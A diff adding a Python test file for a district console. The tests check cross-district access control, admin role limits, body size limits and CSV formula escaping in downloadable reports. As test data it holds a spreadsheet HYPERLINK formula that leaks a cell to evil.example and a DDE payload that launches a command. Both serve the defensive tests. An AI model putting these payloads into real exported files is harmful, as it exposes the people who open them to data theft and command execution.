@@ -1,0 +1,89 @@
+"""What an attacker tries against the console (a security review of issue 14): another
+district's uploads, formulas in the downloadable report, a street's admin publishing for the
+whole district, oversized bodies outside the upload form."""
+
+from __future__ import annotations
+
+import csv
+import io
+import uuid
+from datetime import date
+
+from district import models
+from district.app import BODY_LIMIT, UPLOAD_BODY_LIMIT, body_limit
+from district.imports.errors import Rejection
+from district.imports.files import PERSON_HEADER
+from district.imports.outcome import write_report
+from district.security import hash_password
+from tests.console.conftest import Browser, ConsoleDistrict
+from tests.console.test_data import csv_bytes, person_rows, settled, upload
+from tests.district.harness import CHANGNING_STREET, PASSWORD
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
+
+
+def test_another_districts_upload_is_neither_listed_nor_found(
+        console_district: ConsoleDistrict, admin: Browser) -> None:
+    import_id = upload(admin, "persons", "人员名单.csv", csv_bytes(PERSON_HEADER, person_rows(1)))
+    settled(admin, import_id)
+    other = console_district.browser().sign_in(console_district.user(None, "admin", "minhang"))
+    assert import_id not in other.get("/console/data").text
+    assert other.get(f"/console/data/{import_id}").status_code == 404
+    assert other.get(f"/console/data/{import_id}/report.csv").status_code == 404
+    other.get("/console/data")
+    for action in ("import", "discard"):
+        assert other.post(f"/console/data/{import_id}/{action}").status_code == 404
+    assert import_id in admin.get("/console/data").text  # its own district still sees it
+
+
+def test_the_downloaded_report_runs_no_formula(admin: Browser) -> None:
+    rows = person_rows(1)
+    rows[0][0] = FORMULA  # the ID number: rejected, and echoed in the report
+    import_id = upload(admin, "persons", "人员名单.csv", csv_bytes(PERSON_HEADER, rows))
+    settled(admin, import_id)
+    report = admin.get(f"/console/data/{import_id}/report.csv")
+    assert report.status_code == 200
+    cells = [c for line in csv.reader(io.StringIO(report.content.decode("utf-8-sig")))
+             for c in line]
+    assert "'" + FORMULA in cells
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
+
+
+def test_the_command_lines_report_runs_no_formula(tmp_path) -> None:  # type: ignore[no-untyped-def]
+    from district.imports.outcome import spreadsheet_text
+
+    path = tmp_path / "r.csv"
+    write_report(path, [Rejection(2, "姓名", "原因", "+1+cmd|' /C calc'!A0"),
+                        Rejection(3, "姓名", "原因", "@SUM(A1)"),
+                        Rejection(4, "姓名", "原因", "甲")])
+    values = [line[3] for line in csv.reader(path.open(encoding="utf-8-sig"))][1:]
+    assert values == ["'+1+cmd|' /C calc'!A0", "'@SUM(A1)", "甲"]
+    assert spreadsheet_text(-5) == -5 and spreadsheet_text("-5") == "'-5"
+
+
+def test_a_streets_admin_cannot_publish_a_policy_value(console_district: ConsoleDistrict
+                                                      ) -> None:
+    name = f"t{uuid.uuid4().hex[:8]}.streetadmin"
+    with console_district.db.write() as session:
+        user = models.User(username=name, display_name="街镇管理员",
+                           password_hash=hash_password(PASSWORD),
+                           street_code=CHANGNING_STREET, district="changning")
+        session.add(user)
+        session.flush()
+        session.add(models.UserRole(user_id=user.id, role="district_admin"))
+    street = console_district.browser().sign_in(name)
+    street.get("/console/policy")
+    form = {"key": "assistance:category.dibao.outpatient_rate", "value": "0.95",
+            "effective_from": "2031-01-01", "source": "试", "assumption": "", "confirm": "yes"}
+    for step in ("preview", "publish"):
+        response = street.post(f"/console/policy/{step}", form)
+        assert response.status_code == 403, response.text
+        assert "街镇账号不能发布政策参数" in response.text
+    with console_district.db.read() as session:
+        assert session.get(models.ParameterVersion, (form["key"], date(2031, 1, 1))) is None
+
+
+def test_only_the_upload_form_may_send_a_large_body() -> None:
+    assert body_limit("/console/data/upload") == UPLOAD_BODY_LIMIT
+    assert body_limit(f"/console/data/{uuid.uuid4()}/import") == BODY_LIMIT
+    assert body_limit("/console/data/anything-else") == BODY_LIMIT
